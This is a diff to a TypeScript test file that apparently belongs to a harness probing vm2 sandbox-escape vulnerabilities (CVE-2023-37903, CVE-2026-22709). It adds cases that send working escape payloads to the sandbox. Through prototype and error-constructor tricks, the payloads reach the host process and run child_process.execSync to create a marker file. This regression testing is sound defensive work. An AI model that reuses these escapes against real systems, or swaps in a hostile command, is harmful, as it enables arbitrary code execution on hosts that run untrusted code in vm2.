@@ -1,4 +1,4 @@
-import { postJson, type KnownCase } from '../case.ts';
+import { get, postJson, type KnownCase } from '../case.ts';
 
 interface Sandbox {
   readonly package: string;
@@ -39,6 +39,27 @@ const sandbox = ({ package: name, route = name, id, title, escape }: Sandbox): K
       }),
     ),
 });
+
+/** The same program, run once it has been answered. */
+const later = (one: Sandbox): KnownCase => {
+  const path = `/sandboxes/${one.package}/later`;
+  return {
+    ...sandbox(one),
+    attack(places) {
+      const file = places.made();
+      return {
+        requests: [postJson(path, { program: one.escape(file), values: [3, 1, 2], as: 'escape' })],
+        effect: { kind: 'file', path: file },
+        answered: true,
+      };
+    },
+    benign: () =>
+      PROGRAMS.flatMap((program, index) => [
+        postJson(path, { program, values: [3, 1, 2], as: `${index}` }),
+        get(`/sandboxes/results/${index}`),
+      ]),
+  };
+};
 
 const touch = (file: string): string => `mainModule.require('child_process').execSync('touch ${file}')`;
 
@@ -97,10 +118,24 @@ export default [
     escape: (file) =>
       `const given = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { inspect.constructor('return process')().${touch(file)}; }, valueOf: undefined, constructor: undefined }; WebAssembly.compileStreaming(given).catch(() => {}); 1`,
   }),
+  later({
+    package: 'vm2-3.9.19',
+    id: 'CVE-2023-37903',
+    title: 'the same, after the program was answered',
+    escape: (file) =>
+      `const given = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { inspect.constructor('return process')().${touch(file)}; }, valueOf: undefined, constructor: undefined }; WebAssembly.compileStreaming(given).catch(() => {}); 1`,
+  }),
   sandbox({
     package: 'vm2-3.10.0',
     id: 'CVE-2026-22709',
     title: "a promise's catch is given an error of the host",
+    escape: (file) =>
+      `const error = new Error(); error.name = Symbol(); const f = async () => error.stack; f().catch((e) => { const F = e.constructor.constructor; new F("process.${touch(file)}")(); }); 1`,
+  }),
+  later({
+    package: 'vm2-3.10.0',
+    id: 'CVE-2026-22709',
+    title: 'the same, after the program was answered',
     escape: (file) =>
       `const error = new Error(); error.name = Symbol(); const f = async () => error.stack; f().catch((e) => { const F = e.constructor.constructor; new F("process.${touch(file)}")(); }); 1`,
   }),
